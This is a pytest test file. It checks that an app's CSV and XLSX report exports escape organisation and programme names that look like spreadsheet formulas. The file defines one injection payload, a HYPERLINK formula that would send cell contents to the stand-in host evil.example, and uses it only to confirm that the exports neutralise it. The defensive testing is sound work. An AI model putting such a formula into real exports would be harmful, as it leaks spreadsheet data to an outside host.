"""What an organisation's name can do to a report's CSV and XLSX (issue 11, item 2)."""

import csv
import io

import pytest
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def as_manager(client, scene):
    client.force_login(scene.personas.manager)
    return client


def rename_acme(scene, name):
    scene.personas.acme.name = name
    scene.personas.acme.save()


def test_an_organisation_named_as_a_formula_is_plain_text_in_the_csv(as_manager, scene):
    rename_acme(scene, FORMULA)

    for url in (
        "/p/regional/reports/organisations.csv",
        "/api/programmes/regional/reports/organisations.csv",
    ):
        rows = list(csv.reader(io.StringIO(as_manager.get(url).content.decode())))
        labels = [row[0] for row in rows]
        assert "'" + FORMULA in labels, url
        assert FORMULA not in labels, url


def test_an_organisation_named_as_a_formula_is_a_text_cell_in_the_xlsx_and_numbers_stay_numbers(
    as_manager, scene
):
    rename_acme(scene, FORMULA)
    scene.regional.name = "+Regional Crossings"
    scene.regional.save()

    workbook = load_workbook(io.BytesIO(as_manager.get("/p/regional/reports/report.xlsx").content))

    cells = [row[0] for row in workbook["organisations"].iter_rows(min_row=3) if row[0].value]
    acme = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
    assert (acme.value, acme.data_type) == ("'" + FORMULA, "s")
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
    assert (workbook["About"]["A1"].value, about["Programme"]) == ("'+Regional Crossings",) * 2
    funnel = {row[0]: row[1] for row in workbook["funnel"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert funnel["Applied"] == 21
